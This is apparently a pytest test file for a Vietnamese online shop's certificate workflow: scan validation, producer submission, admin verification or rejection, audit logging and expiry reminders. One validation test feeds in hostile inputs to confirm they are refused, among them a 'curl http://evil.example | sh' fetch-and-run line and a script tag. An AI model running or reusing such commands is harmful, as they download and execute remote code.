"""Certificates producers submit and admins review; reminders before they lapse."""

from __future__ import annotations

import io
import os
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from flask_babel import force_locale
from PIL import Image
from sqlalchemy import select

from shop import clock
from shop.audit.models import AuditEvent
from shop.catalog import certificate_review as review
from shop.catalog.certificates import add_certificate
from shop.catalog.models import Certificate, CertificateReminder
from shop.errors import ConflictError, NotFound, ValidationError
from shop.extensions import db
from shop.mail.models import OutboundMail
from tests.portal.conftest import a_member
from tests.support.builders import a_producer, an_admin, make_product

TODAY = date(2026, 11, 30)  # tests.conftest.NOW in Hà Nội
PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@pytest.fixture
def app_config(app_config, tmp_path):
    return {**app_config, "CERTIFICATE_SCAN_DIR": str(tmp_path / "scans")}


def png_bytes(size=(40, 30), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


def pdf_scan() -> review.Scan:
    return review.read_scan(io.BytesIO(PDF_BYTES))


def submit(producer, product, user, **changes):
    fields = dict(
        star_level=4,
        decision_number="1147/QĐ-UBND",
        decision_date=date(2025, 9, 15),
        issuing_body="UBND Thành phố Hà Nội",
        issuer_level="province",
        scan=pdf_scan(),
    )
    fields.update(changes)
    certificate = review.submit_certificate(producer, product.id, actor=user, **fields)
    db.session.commit()
    return certificate


@pytest.fixture
def producer(app):
    return a_producer(name="HTX Xôi Phú Thượng")


@pytest.fixture
def owner(producer):
    return a_member(producer, role="owner", name="Chủ nhiệm HTX")


@pytest.fixture
def product(producer):
    return make_product("Xôi Phú Thượng", producer=producer, stars=None)


def verified(product, valid_until: date, *, decision_date=date(2025, 9, 15)):
    """A certificate an admin verified, lapsing on `valid_until`."""
    certificate = add_certificate(
        product,
        star_level=4,
        decision_number=f"{valid_until:%Y%m%d}/QĐ-UBND",
        decision_date=decision_date,
        issuing_body="UBND Thành phố Hà Nội",
        issuer_level="province",
        valid_until=valid_until,
        verification_status="verified",
        today=clock.today(),
    )
    db.session.commit()
    return certificate


def mails_to(user) -> list[OutboundMail]:
    return list(db.session.scalars(select(OutboundMail).where(OutboundMail.to_addr == user.email)))


# --- The scan --------------------------------------------------------------------------------


def test_a_pdf_and_an_image_are_recognised_by_their_content():
    assert review.read_scan(io.BytesIO(PDF_BYTES)).content_type == "application/pdf"
    image = review.read_scan(io.BytesIO(png_bytes()))
    assert (image.content_type, image.extension) == ("image/png", "png")


@pytest.mark.parametrize(
    "data",
    [
        b"#!/bin/sh\ncurl http://evil.example | sh\n",
        b"<html><script>alert(1)</script></html>",
        b"GIF89a" + b"\0" * 100,  # a real format, but not one a scan may be
        png_bytes()[:60],  # a truncated image
    ],
)
def test_a_file_that_is_not_a_pdf_or_an_image_is_refused_whatever_its_name(data):
    with pytest.raises(ValidationError) as refused:
        review.read_scan(io.BytesIO(data))
    assert refused.value.field == "scan"
    with force_locale("en"):
        assert "PDF" in str(refused.value.message)


def test_a_scan_over_10_mb_is_refused():
    with force_locale("en"), pytest.raises(ValidationError, match="10 MB"):
        review.read_scan(io.BytesIO(b"%PDF-1.7\n" + b"0" * review.MAX_SCAN_BYTES))


def test_an_image_of_too_many_pixels_is_refused():
    bomb = png_bytes(size=(8000, 8000), mode="1")  # 64 megapixels in a small file
    assert len(bomb) < 2_000_000
    with force_locale("en"), pytest.raises(ValidationError, match="too large"):
        review.read_scan(io.BytesIO(bomb))


def test_an_empty_upload_is_refused():
    with force_locale("en"), pytest.raises(ValidationError, match="Choose"):
        review.read_scan(io.BytesIO(b""))


# --- Submitting -----------------------------------------------------------------------------


def test_a_submitted_certificate_awaits_review_with_its_scan_kept_privately(app, producer, owner, product):
    certificate = submit(producer, product, owner)
    assert certificate.verification_status == "pending"
    assert certificate.valid_until == date(2028, 9, 15)  # 36 months by default
    path = os.path.join(app.config["CERTIFICATE_SCAN_DIR"], certificate.document_path)
    assert Path(path).read_bytes() == PDF_BYTES
    assert certificate.document_path.startswith(f"{producer.id}/") and path.endswith(".pdf")
    assert "static" not in path
    assert product.star_level is None


def test_the_scan_folder_defaults_to_the_instance_folder(app):
    del app.config["CERTIFICATE_SCAN_DIR"]
    assert review.scan_folder() == os.path.join(app.instance_path, "certificates")


def test_a_submission_is_in_the_audit_log(producer, owner, product):
    certificate = submit(producer, product, owner)
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "certificate.submit")).one()
    assert (event.entity, event.entity_id, event.producer_id) == ("certificate", str(certificate.id), producer.id)
    assert (event.actor_email, event.actor_role) == (owner.email, "producer")
    assert event.after["verification_status"] == "pending"
    assert event.after["decision_number"] == "1147/QĐ-UBND"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"star_level": 6}, "star_level"),
        ({"star_level": 2}, "star_level"),
        ({"decision_date": date(2026, 12, 1)}, "decision_date"),
        ({"valid_until": date(2025, 9, 1)}, "valid_until"),
        ({"valid_until": date(2025, 9, 15)}, "valid_until"),
        ({"issuer_level": "district"}, "issuer_level"),  # districts rate nothing since July 2025
        ({"star_level": 5, "issuer_level": "province"}, "issuer_level"),
        ({"star_level": 3, "decision_date": date(2024, 5, 1), "issuer_level": "province"}, "issuer_level"),
        ({"decision_date": date(2022, 1, 10)}, "valid_until"),  # lapsed in January 2025
        ({"decision_number": "  "}, "decision_number"),
        ({"issuing_body": ""}, "issuing_body"),
    ],
)
def test_a_certificate_that_breaks_a_rule_is_refused_and_nothing_is_kept(app, producer, owner, product, changes, field):
    with pytest.raises(ValidationError) as refused:
        review.submit_certificate(producer, product.id, actor=owner, **{**SUBMISSION, "scan": pdf_scan(), **changes})
    db.session.rollback()
    assert refused.value.field == field
    assert db.session.scalar(select(Certificate.id)) is None
    assert not os.path.exists(app.config["CERTIFICATE_SCAN_DIR"])


SUBMISSION = dict(
    star_level=4,
    decision_number="1147/QĐ-UBND",
    decision_date=date(2025, 9, 15),
    issuing_body="UBND Thành phố Hà Nội",
    issuer_level="province",
)


def test_a_3_star_decision_of_a_district_before_july_2025_is_accepted(producer, owner, product):
    certificate = submit(
        producer, product, owner, star_level=3, decision_date=date(2024, 5, 1), issuer_level="district"
    )
    assert certificate.issuer_level == "district"


def test_today_is_the_day_in_vietnam(producer, owner, product, clock):
    # 20:00 UTC on 30 November is already 1 December in Hà Nội.
    clock.move_to(datetime(2026, 11, 30, 20, 0, tzinfo=UTC))
    certificate = submit(producer, product, owner, decision_date=date(2026, 12, 1))
    assert certificate.decision_date == date(2026, 12, 1)
    with pytest.raises(ValidationError):
        submit(producer, product, owner, decision_number="2/QĐ", decision_date=date(2026, 12, 2))


def test_one_may_submit_only_for_ones_own_products(owner, producer, product):
    theirs = make_product("Chè sen", producer=a_producer(), stars=None)
    with pytest.raises(NotFound):
        submit(producer, theirs, owner)


def test_a_second_submission_waits_for_the_first_to_be_reviewed(producer, owner, product):
    submit(producer, product, owner)
    with force_locale("en"), pytest.raises(ValidationError, match="awaiting review"):
        submit(producer, product, owner, decision_number="99/QĐ-UBND")


def test_a_rejected_certificate_may_be_sent_again(producer, owner, product):
    first = submit(producer, product, owner)
    review.reject_certificate(first, actor=an_admin(), reason="Số quyết định không khớp bản scan")
    db.session.commit()
    again = submit(producer, product, owner)
    assert again.id != first.id and again.verification_status == "pending"


# --- Reviewing ------------------------------------------------------------------------------


def test_stars_show_only_once_an_admin_verifies(client, producer, owner, product):
    certificate = submit(producer, product, owner)
    page = client.get(f"/products/{product.slug}").get_data(as_text=True)
    assert "stars-badge" not in page
    assert f"/products/{product.slug}" not in client.get("/products?stars=4").get_data(as_text=True)
    review.verify_certificate(certificate, actor=an_admin())
    db.session.commit()
    assert (product.star_level, product.star_valid_until) == (4, date(2028, 9, 15))
    page = client.get(f"/products/{product.slug}").get_data(as_text=True)
    assert 'class="stars-badge large"' in page
    assert f"/products/{product.slug}" in client.get("/products?stars=4").get_data(as_text=True)


def test_verifying_writes_the_audit_log_and_mails_the_owners(producer, owner, product):
    staff = a_member(producer, role="staff")
    admin = an_admin(email="kiemduyet@cho-ocop.vn")
    certificate = submit(producer, product, owner)
    review.verify_certificate(certificate, actor=admin)
    db.session.commit()
    assert certificate.reviewed_at is not None
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "certificate.verify")).one()
    assert (event.actor_email, event.actor_role, event.producer_id) == (admin.email, "admin", producer.id)
    assert event.before == {"verification_status": "pending"}
    assert event.after == {"verification_status": "verified"}
    [mail] = mails_to(owner)
    assert "Xôi Phú Thượng" in mail.subject
    assert f"http://shop.test/producer/certificates/{certificate.id}" in mail.body_text
    assert f'href="http://shop.test/producer/certificates/{certificate.id}"' in mail.body_html
    assert "1147/QĐ-UBND" in mail.body_text
    assert mails_to(staff) == []  # owners are told


def test_the_mail_is_in_the_owners_language(producer, product):
    english = a_member(producer, role="owner", locale="en")
    product.name_en = "Phu Thuong sticky rice"
    certificate = submit(producer, product, english)
    review.verify_certificate(certificate, actor=an_admin())
    db.session.commit()
    [mail] = mails_to(english)
    assert mail.subject == "Your OCOP certificate for Phu Thuong sticky rice is verified"


def test_rejecting_needs_a_reason_the_producer_is_mailed(producer, owner, product):
    certificate = submit(producer, product, owner)
    with pytest.raises(ValidationError):
        review.reject_certificate(certificate, actor=an_admin(), reason="  ")
    review.reject_certificate(certificate, actor=an_admin(), reason="Bản scan không đọc được")
    db.session.commit()
    assert (certificate.verification_status, certificate.rejection_reason) == ("rejected", "Bản scan không đọc được")
    [mail] = mails_to(owner)
    assert "Bản scan không đọc được" in mail.body_text
    assert f"http://shop.test/producer/certificates/new?product={product.id}&replace={certificate.id}" in mail.body_text
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "certificate.reject")).one()
    assert event.after == {"verification_status": "rejected", "rejection_reason": "Bản scan không đọc được"}


def test_withdrawing_a_verification_takes_the_stars_away(producer, owner, product):
    certificate = submit(producer, product, owner)
    review.verify_certificate(certificate, actor=an_admin())
    db.session.commit()
    assert product.star_level == 4
    review.reject_certificate(certificate, actor=an_admin(), reason="Quyết định đã bị thu hồi")
    db.session.commit()
    assert (product.star_level, product.star_valid_until) == (None, None)


def test_only_a_pending_certificate_can_be_verified_and_a_rejected_one_not_rejected_again(producer, owner, product):
    certificate = submit(producer, product, owner)
    review.reject_certificate(certificate, actor=an_admin(), reason="Sai cấp ban hành")
    with pytest.raises(ConflictError):
        review.verify_certificate(certificate, actor=an_admin())
    with pytest.raises(ConflictError):
        review.reject_certificate(certificate, actor=an_admin(), reason="again")


def test_the_review_list_puts_pending_certificates_first(producer, owner, product):
    other = make_product("Chè sen", producer=producer, stars=None)
    done = submit(producer, product, owner)
    review.verify_certificate(done, actor=an_admin())
    waiting = submit(producer, other, owner)
    assert [c.id for c in review.for_review()] == [waiting.id, done.id]
    assert [c.id for c in review.for_review("verified")] == [done.id]


# --- Lapsing and reminders ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("days", "due"),
    [(61, None), (60, 60), (59, 60), (15, 60), (14, 14), (10, 14), (0, 14), (-1, None)],
)
def test_the_reminder_due_is_the_nearest_lead_time(days, due):
    assert review.reminder_due(days) == due


def test_reminders_go_60_then_14_days_before_and_never_twice(producer, owner, product, clock):
    certificate = verified(product, TODAY + timedelta(days=61))
    assert review.send_certificate_reminders() == 0
    clock.shift(timedelta(days=1))  # 60 days left
    assert review.send_certificate_reminders() == 1
    db.session.commit()
    assert review.send_certificate_reminders() == 0  # the same day again: nothing
    db.session.commit()
    [mail] = mails_to(owner)
    assert "60" in mail.body_text and "Xôi Phú Thượng" in mail.body_text
    assert f"http://shop.test/producer/certificates/new?product={product.id}" in mail.body_text
    clock.shift(timedelta(days=30))  # 30 days left: the 60-day one is sent already
    assert review.send_certificate_reminders() == 0
    clock.shift(timedelta(days=16))  # 14 days left
    assert review.send_certificate_reminders() == 1
    db.session.commit()
    assert review.send_certificate_reminders() == 0
    sent = db.session.scalars(select(CertificateReminder.days_before).order_by(CertificateReminder.days_before))
    assert list(sent) == [14, 60]
    assert len(mails_to(owner)) == 2
    assert certificate.id


def test_a_run_missed_for_weeks_sends_only_the_reminder_now_due(producer, owner, product):
    certificate = verified(product, TODAY + timedelta(days=10))
    assert review.send_certificate_reminders() == 1
    db.session.commit()
    assert review.send_certificate_reminders() == 0
    reminders = db.session.scalars(select(CertificateReminder)).all()
    assert [(r.certificate_id, r.days_before) for r in reminders] == [(certificate.id, 14)]
    assert len(mails_to(owner)) == 1


def test_no_reminder_for_a_certificate_a_renewal_replaces_or_one_not_verified(producer, owner, product):
    verified(product, TODAY + timedelta(days=20))
    verified(product, TODAY + timedelta(days=1000), decision_date=date(2026, 10, 1))
    pending = make_product("Chè sen", producer=producer, stars=None)
    submit(producer, pending, owner, valid_until=TODAY + timedelta(days=20))
    assert review.send_certificate_reminders() == 0
    assert review.lapsing_certificates(producer.id, TODAY) == []


def test_one_message_per_owner_for_several_certificates(producer, owner, product):
    verified(product, TODAY + timedelta(days=30))
    verified(make_product("Chè sen", producer=producer, stars=None), TODAY + timedelta(days=12))
    assert review.send_certificate_reminders() == 2
    db.session.commit()
    [mail] = mails_to(owner)
    assert "Xôi Phú Thượng" in mail.body_text and "Chè sen" in mail.body_text


def test_the_banner_lists_certificates_lapsing_within_60_days_or_lapsed(producer, product):
    soon = verified(product, TODAY + timedelta(days=60))
    later = make_product("Chè sen", producer=producer, stars=None)
    verified(later, TODAY + timedelta(days=61))
    gone = make_product("Hoa đào", producer=producer, stars=None)
    lapsed = verified(gone, TODAY - timedelta(days=3), decision_date=date(2023, 11, 1))
    assert review.lapsing_certificates(producer.id, TODAY) == [(lapsed, -3), (soon, 60)]
